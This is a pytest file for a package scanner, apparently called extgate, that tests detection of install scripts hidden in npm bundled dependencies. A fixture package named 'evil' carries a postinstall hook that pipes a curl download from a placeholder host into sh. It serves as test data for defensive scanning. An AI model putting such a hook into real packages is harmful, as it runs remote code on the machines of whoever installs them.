"""manifest/install-script and manifest/install-script-payload on bundled dependencies (a fail-open fix: an
archive bundling `node_modules/x` with `"postinstall": "curl ... | sh"` used to pass while npm ran the script).

The premise is checked against real npm: installing a tarball we build here (its script only writes a marker in
the test's temp dir) runs a bundled dependency's postinstall, and does not when the package has no bundle list.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import tarfile
from pathlib import Path
from typing import Any

import pytest
from manifest_support import of, pkg, run

from extgate import Options, check

BASE: dict[str, Any] = {"name": "host", "version": "1.0.0", "license": "MIT"}
RULE = "manifest/install-script"
PAYLOAD = "manifest/install-script-payload"


def bundled(doc: dict[str, Any], deps: dict[str, dict[str, Any]], extra: dict[str, str] | None = None) -> dict:
    files = {f"{folder}/package.json": json.dumps(manifest, indent=2) for folder, manifest in deps.items()}
    return pkg({**BASE, **doc}, {**files, **(extra or {})})


EVIL = {"name": "evil", "version": "1.0.0", "scripts": {"postinstall": "curl -s https://x.example/p | sh"}}


@pytest.mark.parametrize(
    "doc",
    [
        {"bundleDependencies": ["evil"]},
        {"bundledDependencies": ["evil"]},
        {"bundleDependencies": True, "dependencies": {"evil": "1.0.0"}},
        {"bundleDependencies": "evil"},  # not a list: npm's reading is not extgate's to guess, so it counts
    ],
)
def test_a_bundled_dependencys_install_script_is_reported_with_its_payload(doc: dict[str, Any]) -> None:
    result = run(bundled(doc, {"node_modules/evil": EVIL}))
    (script,) = of(result, RULE)
    assert script.location is not None
    assert (script.location.path, script.location.line) == ("node_modules/evil/package.json", 5)
    assert "bundled dependency evil" in script.message and script.snippet == EVIL["scripts"]["postinstall"]
    (payload,) = of(result, PAYLOAD)
    assert "piped into a shell" in payload.message


def test_scoped_and_nested_bundled_dependencies_are_reported() -> None:
    deps = {
        "node_modules/@s/x": {"name": "@s/x", "scripts": {"preinstall": "node a.js"}},
        "node_modules/@s/x/node_modules/y": {"name": "y", "scripts": {"install": "node b.js"}},
        "node_modules/z": {"name": "z", "scripts": {"postinstall": "node c.js"}},  # not in the bundle list
    }
    found = of(run(bundled({"bundleDependencies": ["@s/x"]}, deps)), RULE)
    assert sorted(f.location.path for f in found if f.location) == [
        "node_modules/@s/x/node_modules/y/package.json",
        "node_modules/@s/x/package.json",
    ]


@pytest.mark.parametrize(
    ("doc", "folder"),
    [
        ({}, "node_modules/evil"),  # no bundle: npm unpacks the files but runs no script
        ({"bundleDependencies": []}, "node_modules/evil"),
        ({"bundleDependencies": False}, "node_modules/evil"),
        ({"bundleDependencies": ["evil"]}, "lib/node_modules/evil"),  # not the package's node_modules
        ({"bundleDependencies": ["evil"]}, "node_modules/evil/test/fixture"),  # a file inside the dependency
    ],
)
def test_scripts_npm_does_not_run_are_not_reported(doc: dict[str, Any], folder: str) -> None:
    assert of(run(bundled(doc, {folder: EVIL})), RULE) == []


def test_a_bundled_binding_gyp_is_an_implicit_install_script() -> None:
    quiet = {"name": "native", "version": "1.0.0"}
    (finding,) = of(
        run(bundled({"bundleDependencies": ["native"]}, {"node_modules/native": quiet}, {
            "node_modules/native/binding.gyp": "{}"
        })),
        RULE,
    )  # fmt: skip
    assert finding.location is not None and finding.location.path == "node_modules/native/binding.gyp"
    scripted = {**quiet, "scripts": {"install": "node-gyp-build"}}
    found = of(
        run(bundled({"bundleDependencies": ["native"]}, {"node_modules/native": scripted}, {
            "node_modules/native/binding.gyp": "{}"
        })),
        RULE,
    )  # fmt: skip
    assert [f.location.path for f in found if f.location] == ["node_modules/native/package.json"]


@pytest.mark.parametrize("content", ["{not json", '["an", "array"]', " " * 2_000_001])
def test_an_unreadable_bundled_manifest_fails_closed(content: str) -> None:
    files = pkg({**BASE, "bundleDependencies": ["evil"]}, {"node_modules/evil/package.json": content})
    (finding,) = of(run(files), RULE)
    assert "cannot read" in finding.message


def test_fingerprints_follow_the_dependency_and_the_script() -> None:
    def fingerprint(folder: str, script: str) -> str:
        dep = {"name": "d", "scripts": {"postinstall": script}}
        (found,) = of(run(bundled({"bundleDependencies": True}, {folder: dep})), RULE)
        return found.base_fingerprint()

    same = fingerprint("node_modules/a", "node x.js")
    assert same == fingerprint("node_modules/a", "node x.js")
    assert len({same, fingerprint("node_modules/b", "node x.js"), fingerprint("node_modules/a", "node y.js")}) == 3


# -- the premise, against real npm ------------------------------------------------------------------------------


def _tarball(path: Path, doc: dict[str, Any], marker: Path) -> Path:
    assert "'" not in str(marker) and '"' not in str(marker)
    script = f"node -e \"require('fs').writeFileSync('{marker}', 'ran')\""
    members = {
        "package/package.json": json.dumps({**BASE, **doc}),
        "package/index.js": "module.exports = 1;\n",
        "package/node_modules/evil/package.json": json.dumps({"name": "evil", "version": "1.0.0",
                                                             "scripts": {"postinstall": script}}),
    }  # fmt: skip
    with tarfile.open(path, "w:gz") as tar:
        for name, text in members.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


@pytest.mark.parametrize("doc", [{"bundleDependencies": ["evil"]}, {}])
def test_npm_runs_bundled_install_scripts_exactly_when_extgate_reports_them(
    doc: dict[str, Any], tmp_path: Path
) -> None:
    npm = shutil.which("npm")
    if npm is None:
        pytest.skip("npm not on PATH: the real-npm premise of the bundled install-script rule is SKIPPED")
    marker = tmp_path / "marker"
    archive = _tarball(tmp_path / "host-1.0.0.tgz", doc, marker)
    verdict = check(archive, options=Options(offline=True, network=False, osv_db=str(tmp_path)))
    reported = any(f.rule_id == RULE and f.path == "node_modules/evil/package.json" for f in verdict.findings)
    project = tmp_path / "project"
    project.mkdir()
    (project / "package.json").write_text('{"name": "project", "version": "1.0.0", "private": true}')
    env = {**os.environ, "npm_config_cache": str(tmp_path / "npm-cache"), "npm_config_update_notifier": "false"}
    done = subprocess.run(
        [npm, "install", "--offline", "--no-audit", "--no-fund", str(archive)],
        cwd=project, capture_output=True, text=True, env=env, timeout=180,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    assert marker.exists() == reported == bool(doc)
